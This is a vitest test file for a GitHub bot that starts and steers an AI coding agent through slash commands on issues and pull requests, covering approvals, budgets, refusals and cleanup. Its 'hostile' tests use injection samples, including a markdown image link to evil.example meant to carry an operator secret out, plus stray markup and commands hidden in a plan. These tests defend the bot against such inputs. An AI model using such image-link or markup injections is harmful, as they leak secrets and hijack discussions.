import { describe, expect, test } from 'vitest';
import type { RunJob } from '../../../src/run/task/run-job.ts';
import { plainTask } from '../../../src/run/task/run-task.ts';
import type { IssueEntry } from '../../../src/steering/issue-entry.ts';
import { asked, type CommentFacts, commentPayload, issuePayload } from '../../support/some-payloads.ts';
import { labels, type Parts, steeringParts, type Told, written } from '../../support/steering-parts.ts';

const ours = { author: 'sandpiper[bot]', branch: 'sandpiper/7-tides-are-late', headRepository: 'wader/tidewords' };
const onOurPull = { on: 9, pullBy: 'sandpiper[bot]' };

const earlierJob: RunJob = {
  request: {
    installationId: 51_007,
    repository: { owner: 'wader', name: 'tidewords' },
    issue: { number: 7, title: 'Tides are late', body: 'As it was approved of.', author: 'plover' },
    sender: 'knot',
    senderId: 4004,
    requestedAt: '2026-02-01T11:00:00Z',
  },
  task: plainTask,
};

const earlierRuns = ['run-1', 'run-2'].map((runId) => ({
  runId,
  task: runId === 'run-1' ? ('solve' as const) : ('revise' as const),
  cause: null,
  endedAt: '2026-02-01T12:00:00Z',
  outcome: 'failed',
  verdict: null,
}));

const published = {
  task: 'solve' as const,
  cause: null,
  endedAt: '2026-02-01T11:00:00Z',
  outcome: 'published',
  verdict: 'verified',
};

async function someParts(entry: Partial<IssueEntry> = {}, told: Told = {}) {
  const pulls = new Map([[9, ours]]);
  const parts = await steeringParts({ ...told, gitHub: { pulls, ...told.gitHub } });
  await parts.deps.issues.change(parts.key, (before) => ({ ...before, ...entry }));
  return parts;
}

async function say(parts: Parts, text: string, facts: CommentFacts = {}): Promise<string> {
  await parts.receive('issue_comment', commentPayload(text, facts));
  return written(parts, facts.on ?? 7).findLast((one) => one.includes('sandpiper:answer=')) ?? '';
}

describe('on an issue', () => {
  test.for<readonly [string, object]>([
    ['/agent', { kind: 'solve', said: [], earlierRuns: [], begins: { kind: 'afresh' } }],
    ['/agent use the parser', { kind: 'solve', said: [{ author: 'knot', text: 'use the parser' }] }],
    [
      '/retry it is a time zone',
      { kind: 'solve', earlierRuns: ['run-1', 'run-2'], said: [{ text: 'it is a time zone' }] },
    ],
    ['/retry from 12', { begins: { kind: 'from-step', runId: 'run-1', step: 12 } }],
    ['/retry x3', { begins: { kind: 'candidates', count: 3 }, earlierRuns: ['run-1', 'run-2'] }],
    ['/plan mind the clock', { kind: 'plan', said: [{ text: 'mind the clock' }], earlierPlan: null }],
  ])('%s begins what it says, with the text of the webhook, and is answered', async ([text, task]) => {
    await using parts = await someParts({ lastJob: earlierJob, runs: earlierRuns });

    const answer = await say(parts, text);

    expect(parts.listed.jobs()).toMatchObject([
      { request: { issue: { number: 7, body: 'By an hour.' }, sender: 'knot', requestedAt: asked }, task },
    ]);
    expect(parts.gitHub.reactions).toEqual(['eyes on issues/comments/17']);
    expect(answer).toContain(`**\`${text}\`**`);
    expect(answer).toMatch(/It begins at once/);
  });

  test('an answer is written once, and a job begun once, when the webhook comes again', async () => {
    await using parts = await someParts();

    await parts.receive('issue_comment', commentPayload('/agent'), 'same');
    await parts.receive('issue_comment', commentPayload('/agent'), 'same');

    expect(parts.listed.jobs()).toHaveLength(1);
    expect(written(parts)).toHaveLength(2);
  });

  test.for<readonly [string, Partial<IssueEntry>, RegExp]>([
    ['/retry from 3', {}, /no run on this issue that could be gone on from.*`\/agent`/],
    ['/approve', {}, /Nothing waits for approval here\..*`\/agent`/],
    ['/stop', {}, /nothing to stop/],
    ['/explain src/a.js:3', {}, /Explained `src\/a\.js:3` of issue 7/],
    ['/help', {}, /Nothing is running.*`\/retry x3`.*`agent:plan`/],
    ['/budget 2.50', {}, /may cost \$2\.50 from now on\. It counts from the next run/],
    ['/budget 50', {}, /More than \$5\.00 is not allowed here, so that is what counts/],
    ['/budget 1,50', {}, /must have no comma.*Write for example `\/budget 2\.50` in a new comment/],
    ['/aprove', {}, /There is no such command.*`\/approve`/],
  ])('%s is answered with what is true and what to do', async ([text, entry, words]) => {
    await using parts = await someParts(entry);

    const answer = await say(parts, text);

    expect(answer.replaceAll('\n', ' ')).toMatch(words);
    expect(parts.listed.jobs()).toEqual([]);
  });

  test('all commands of a comment are answered in one', async () => {
    await using parts = await someParts();

    const answer = await say(parts, '/budget 3\n/agent go\n/explain src/a.js');

    expect(answer.match(/^\*\*`\//gm)).toHaveLength(3);
    expect(parts.listed.jobs()).toMatchObject([{ task: { budgetUsd: 3 } }]);
    expect(written(parts)).toHaveLength(2);
  });

  test('another wish while a run is waiting or going on is answered with that, and begins nothing', async () => {
    await using parts = await someParts();
    await say(parts, '/agent');

    const first = await say(parts, '/retry', { id: 18 });
    parts.listed.begin();
    const second = await say(parts, '/retry', { id: 19 });

    expect(first).toMatch(/is waiting already\. Comment `\/stop`/);
    expect(second).toMatch(/is going on\. Wait until it has ended, or comment `\/stop`/);
    expect(parts.listed.jobs()).toEqual([]);
  });

  test('a closed issue, and one that we are kept off, are refused in words', async () => {
    await using parts = await someParts();

    expect(await say(parts, '/agent', { state: 'closed' })).toMatch(/is closed\. Reopen it/);
    expect(await say(parts, '/retry', { id: 18, labels: ['No-Agent'] })).toMatch(/Take that label off/);
    expect(parts.listed.jobs()).toEqual([]);
  });

  test('what GitHub refuses for one command is said, and the others are carried out', async () => {
    await using parts = await someParts({}, { gitHub: { failing: [{ route: /GET .*permission/, status: 200 }] } });

    expect(await say(parts, '/agent')).toMatch(/GitHub could not be asked whether you have the permission/);
  });
});

describe('what waits for approval', () => {
  const hold = (why: 'plan' | 'cost' | 'text-changed', plan: string | null = null) => ({
    hold: { why, job: earlierJob, plan },
  });

  test.for<readonly [string, Partial<IssueEntry>, object]>([
    ['a plan', hold('plan', 'First this, then that.'), { kind: 'solve', plan: 'First this, then that.' }],
    ['a cost', hold('cost'), { kind: 'solve', plan: null }],
    ['a changed text', hold('text-changed'), { kind: 'solve' }],
  ])('begins when %s is approved of, with the text of that moment', async ([, entry, task]) => {
    await using parts = await someParts(entry, { conduct: { approveAboveUsd: 0.5 } });

    const answer = await say(parts, '/approve', { sender: 'knot', body: 'By two hours.' });

    expect(parts.listed.jobs()).toMatchObject([
      { request: { issue: { body: 'By two hours.' }, requestedAt: asked }, task },
    ]);
    expect((await parts.deps.issues.read(parts.key)).hold).toBeNull();
    expect(answer).toMatch(/begins at once/);
    expect(answer.includes('First this, then that.')).toBe(entry.hold?.why === 'plan');
  });

  test('shows the plan that was approved of in the answer, folded, where nothing of it does anything', async () => {
    const plan = `1. Mend @knot's clock, which Fixes #3\n</details>\n/stop\n<img src=x>\n${'long '.repeat(20_000)}`;
    await using parts = await someParts(hold('plan', plan));

    const answer = await say(parts, '/approve');

    expect(answer).toContain('<details>\n<summary>The plan that was approved of</summary>');
    expect(answer.match(/<\/details>/g)).toHaveLength(1);
    expect(answer).not.toMatch(/(?<![\u2060\\])@knot|\s#3|^>?\s*\/stop|<img/m);
    expect(answer.length).toBeLessThan(20_000);
  });

  test('stays when a stranger changed the text just before it was approved of', async () => {
    const lastEdit = { at: '2026-03-01T11:58:50Z', editor: 'plover' };
    await using parts = await someParts(hold('cost'), { gitHub: { lastEdit } });

    const answer = await say(parts, '/approve');

    expect(answer).toMatch(/somebody without write permission changed the issue just before/);
    expect(parts.listed.jobs()).toEqual([]);
    expect((await parts.deps.issues.read(parts.key)).hold).toMatchObject({ why: 'text-changed' });
  });

  test.for<readonly [number, number, boolean]>([
    [5, 1, true],
    [0.8, 1, true],
    [2, 1, false],
    [100, 1, true],
  ])('begins with a budget of %d, above %d of which one is asked: %s', async ([usd, approveAboveUsd, isBegun]) => {
    await using parts = await someParts(hold('cost'), { conduct: { approveAboveUsd } });

    const answer = await say(parts, `/budget ${usd}`);

    expect(parts.listed.jobs()).toHaveLength(isBegun ? 1 : 0);
    expect(answer).toMatch(isBegun ? /begins at once/ : /What waits still waits/);
  });

  test('is planned anew, from the plan before', async () => {
    await using parts = await someParts(hold('plan', 'First this.'));

    await say(parts, '/plan rather that');

    expect(parts.listed.jobs()).toMatchObject([
      { task: { kind: 'plan', earlierPlan: 'First this.', said: [{ text: 'rather that' }] } },
    ]);
  });

  test('is dropped by a wish to stop', async () => {
    await using parts = await someParts(hold('cost'));
    parts.gitHub.labels.set(7, [labels.states['needs-input'], 'bug']);

    const answer = await say(parts, '/stop');

    expect(answer).toMatch(/What waited for approval was dropped/);
    expect((await parts.deps.issues.read(parts.key)).hold).toBeNull();
    expect(parts.gitHub.labels.get(7)).toEqual(['bug']);
  });
});

describe('on a pull request', () => {
  test.for<readonly [string, object]>([
    ['/agent rename it', { said: [{ author: 'knot', text: 'rename it' }] }],
    ['/retry', { said: [], earlierRuns: ['run-1', 'run-2'] }],
  ])('of ours %s asks for further commits, with the text its issue was asked for with', async ([text, task]) => {
    await using parts = await someParts({ lastJob: earlierJob, runs: earlierRuns, fixes: { inAll: 2, inARow: 2 } });

    const answer = await say(parts, text, onOurPull);

    expect(parts.listed.jobs()).toMatchObject([
      {
        request: { issue: { number: 7, body: 'As it was approved of.' }, requestedAt: asked },
        task: { kind: 'revise', pull: 9, cause: { kind: 'asked' }, ...task },
      },
    ]);
    expect(answer).toMatch(/adds commits to it/);
    expect((await parts.deps.issues.read(parts.key)).fixes).toEqual({ inAll: 2, inARow: 0 });
  });

  test.for<readonly [string, RegExp]>([
    ['/retry x3', /comment on issue 7/],
    ['/plan', /comment on issue 7/],
    ['/approve', /comment on issue 7/],
    ['/explain src/a.js:3', /Explained/],
    ['/stop', /nothing to stop/],
  ])('of ours %s is answered', async ([text, words]) => {
    await using parts = await someParts({ lastJob: earlierJob, runs: earlierRuns });

    expect(await say(parts, text, onOurPull)).toMatch(words);
    expect(parts.listed.jobs()).toEqual([]);
  });

  test.for<readonly [string, object, RegExp]>([
    ['merged', { state: 'closed', merged: true }, /merged already/],
    ['closed', { state: 'closed' }, /is closed\. Reopen it/],
    ['from a fork that is gone', { headRepository: null }, /comes from a fork/],
    ['from a fork', { headRepository: 'gull/tidewords' }, /comes from a fork/],
    ['from another branch of ours', { branch: 'release' }, /did not open this pull request/],
  ])('that is %s it is refused in words', async ([, pull, words]) => {
    await using parts = await someParts(
      { lastJob: earlierJob },
      { gitHub: { pulls: new Map([[9, { ...ours, ...pull }]]) } },
    );

    expect(await say(parts, '/agent', onOurPull)).toMatch(words);
    expect(parts.listed.jobs()).toEqual([]);
  });
});

describe('hostile', () => {
  test('a comment that was edited is never carried out, and answered once', async () => {
    await using parts = await someParts();

    for (let times = 0; times < 3; times += 1)
      await parts.receive('issue_comment', commentPayload('/agent', {}, 'edited'));

    expect(parts.listed.jobs()).toEqual([]);
    expect(parts.gitHub.reactions).toEqual([]);
    expect(written(parts)).toEqual([expect.stringMatching(/edited are not carried out[\s\S]*write a new comment/)]);
  });

  test('two hundred commands of a stranger get three answers an hour, begin nothing, and keep nobody else out', async () => {
    await using parts = await someParts(
      {},
      {
        gitHub: {
          roles: new Map([
            ['knot', 'write'],
            ['gull', 'read'],
          ]),
        },
      },
    );

    for (let id = 100; id < 300; id += 1)
      await parts.receive('issue_comment', commentPayload('/agent\n/retry', { id, sender: 'gull' }));

    expect(written(parts)).toHaveLength(3);
    expect(parts.gitHub.reactions).toEqual([]);
    expect(parts.listed.jobs()).toEqual([]);
    parts.clock.now += 61 * 60_000;
    await parts.receive('issue_comment', commentPayload('/agent', { id: 300, sender: 'gull' }));
    expect(written(parts)).toHaveLength(4);
    expect(await say(parts, '/agent', { id: 301 })).toMatch(/begins at once/);
    expect(parts.listed.jobs()).toHaveLength(1);
  });

  test('what a command quotes does nothing in its answer, and holds no secret', async () => {
    await using parts = await someParts();

    const answer = await say(
      parts,
      '/agent @everyone `![x](http://evil.example/a secret of the operator)` <img src=x> fixes #1',
    );

    // All of it is in one code span, and nothing of it outside.
    expect(answer).toMatch(
      /^\*\*`` \/agent @everyone `!\[x\]\(http:\/\/evil\.example\/\[redacted\]\)` <img src=x> [^`]* ``\*\*$/m,
    );
    expect(answer.split('\n').slice(1).join('\n')).not.toMatch(/everyone|<img|evil/);
  });
});

describe('what is over', () => {
  const closed = issuePayload('closed', { state: 'closed' });

  test('a closed issue takes away what waits, and says so', async () => {
    await using parts = await someParts();
    await say(parts, '/agent');
    parts.gitHub.closedIssues.add(7);

    await parts.receive('issues', closed);

    expect(parts.listed.jobs()).toEqual([]);
    expect(parts.listed.stopped).toEqual(['The issue was closed.']);
    expect(parts.gitHub.labels.get(7)).toEqual([]);
    expect(written(parts)[0]).toMatch(/The issue was closed\./);
  });

  test('a label that is taken off leaves the state of an open pull request', async () => {
    await using parts = await someParts({
      lastJob: earlierJob,
      pull: { number: 9, branch: ours.branch, sha: 'a'.repeat(40) },
    });
    parts.gitHub.labels.set(7, [labels.states['pr-open']]);

    await parts.receive('issues', issuePayload('unlabeled', {}, { label: { name: 'agent' } }));

    expect(parts.gitHub.labels.get(7)).toEqual([labels.states['pr-open']]);
  });

  test('of an issue that was never asked for GitHub is asked nothing', async () => {
    await using parts = await someParts();

    await parts.receive('issues', closed);

    expect(parts.gitHub.requests).toEqual([]);
  });

  const pullClosed = {
    action: 'closed',
    pull_request: {
      number: 9,
      user: { login: 'sandpiper[bot]', id: 1, type: 'Bot' },
      state: 'closed',
      merged: false,
      head: { ref: ours.branch, sha: 'a'.repeat(40), repo: { full_name: 'wader/tidewords' } },
      base: { ref: 'main' },
    },
    repository: { name: 'tidewords', owner: { login: 'wader' }, private: false },
    installation: { id: 51_007 },
    sender: { login: 'knot', id: 4004, type: 'User' },
  };

  test.for<readonly [string, boolean, boolean, string, boolean]>([
    ['closed, where its branch goes with it', true, false, 'a', true],
    ['closed, with commits of people on it', true, false, 'b', false],
    ['closed, where branches stay', false, false, 'a', false],
    ['merged', true, true, 'a', false],
  ])('a pull request that is %s is forgotten', async ([, deleteStaleBranch, merged, sha, isDeleted]) => {
    const pulls = new Map([[9, { ...ours, state: 'closed' as const, merged, sha: sha.repeat(40) }]]);
    const pull = { number: 9, branch: ours.branch, sha: 'a'.repeat(40) };
    const runs = [{ ...published, runId: 'run-3' }, ...earlierRuns];
    const entry = { lastJob: earlierJob, pull, runs, fixes: { inAll: 1, inARow: 1 } };
    const comments = [
      { id: 1, author: 'sandpiper[bot]', on: 7, body: '**Next:** review it. <!-- sandpiper:issue=7 -->' },
    ];
    await using parts = await someParts(entry, { publish: { deleteStaleBranch }, gitHub: { pulls, comments } });
    parts.gitHub.labels.set(7, [labels.states['pr-open'], 'bug']);

    await parts.receive('pull_request', pullClosed);

    const how = merged ? 'merged' : 'closed';
    expect(await parts.deps.issues.read(parts.key)).toMatchObject({
      pull: null,
      endedPull: { number: 9, how, by: 'knot' },
      fixes: { inAll: 0, inARow: 0 },
    });
    const said = `[#9](https://github.com/wader/tidewords/pull/9) was ${how} by \`knot\`.`;
    expect(written(parts)).toEqual([expect.stringContaining(said)]);
    expect(written(parts)[0]).toContain('Record: run `run-3`');
    expect(written(parts)[0]).not.toContain('review it');
    expect(parts.gitHub.labels.get(7)).toEqual(['bug']);
    expect(parts.gitHub.deletedBranches).toEqual(isDeleted ? [ours.branch] : []);
  });

  test('where its comment was deleted, or waits with something newer, nothing is said of a merge', async () => {
    const pulls = new Map([[9, { ...ours, state: 'closed' as const, merged: true }]]);
    const entry = { lastJob: earlierJob, pull: { number: 9, branch: ours.branch, sha: 'a'.repeat(40) } };
    await using deleted = await someParts(entry, { gitHub: { pulls } });
    const comments = [{ id: 1, author: 'sandpiper[bot]', on: 7, body: 'A plan. <!-- sandpiper:issue=7 -->' }];
    const hold = { why: 'plan' as const, job: earlierJob, plan: 'First this.' };
    await using newer = await someParts({ ...entry, hold }, { gitHub: { pulls, comments } });

    await deleted.receive('pull_request', pullClosed);
    await newer.receive('pull_request', pullClosed);

    expect(written(deleted)).toEqual([]);
    expect(written(newer)).toEqual([expect.stringContaining('A plan.')]);
  });

  test.for<readonly [string, object]>([
    ['installation', { action: 'deleted' }],
    ['installation_repositories', { action: 'removed', repositories_removed: [{ full_name: 'wader/tidewords' }] }],
  ])('what is gone with an %s is dropped without a word to GitHub', async ([name, payload]) => {
    await using parts = await someParts({ hold: { why: 'cost', job: earlierJob, plan: null } });

    await parts.receive(name, {
      installation: { id: 51_007 },
      sender: { login: 'knot', id: 1, type: 'User' },
      ...payload,
    });

    expect((await parts.deps.issues.read(parts.key)).hold).toBeNull();
    expect(parts.gitHub.requests).toEqual([]);
  });
});
